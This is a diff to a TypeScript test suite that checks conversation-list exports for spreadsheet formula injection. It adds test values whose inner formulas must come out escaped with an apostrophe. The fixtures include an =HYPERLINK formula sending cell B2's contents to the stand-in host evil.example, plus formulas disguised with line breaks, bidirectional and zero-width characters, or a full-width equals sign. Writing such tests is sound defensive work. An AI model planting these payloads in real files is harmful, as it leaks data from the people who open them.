@@ -21,12 +21,16 @@ const HOSTILE = [
   '=HYPERLINK("http://evil.example/"&B2,"open")\nword',
   '=1\r\nword',
   '=1\rword',
-  ' \n"=1+1',
   '\u202E\u200B=1+1',
   '＝1+1\u2028word',
 ]
-const HARMLESS = 'Quote " and, comma\n=1'
-const NAMES = [...HOSTILE, HARMLESS]
+/** Formulas inside of a text, with the text as the file has it. */
+const INNER: Readonly<Record<string, string>> = {
+  ' \n"=1+1': `' \n"'=1+1`,
+  'Quote " and, comma\n=1': `Quote " and, comma\n'=1`,
+  'hi;=1+1': "hi;'=1+1",
+}
+const NAMES = [...HOSTILE, ...Object.keys(INNER)]
 
 eachDatabase('exports of conversation lists', (database) => {
   let test: TestService
@@ -114,7 +118,7 @@ eachDatabase('exports of conversation lists', (database) => {
     const all = await rows()
     const names = all.map((row) => row.Customer)
     expect(names).toEqual(expect.arrayContaining(HOSTILE.map((name) => `'${name} Bell`)))
-    expect(names).toContain(`${HARMLESS} Bell`)
+    expect(names).toEqual(expect.arrayContaining(Object.values(INNER).map((name) => `${name} Bell`)))
     expect(all.find((row) => row.Customer === 'Lead 9999 Bell')).toMatchObject({
       'Customer’s Last Message': `'=HYPERLINK("http://evil.example/"&B2,"open")\nhello`,
       'Lead Source': "'@Web\nsite",
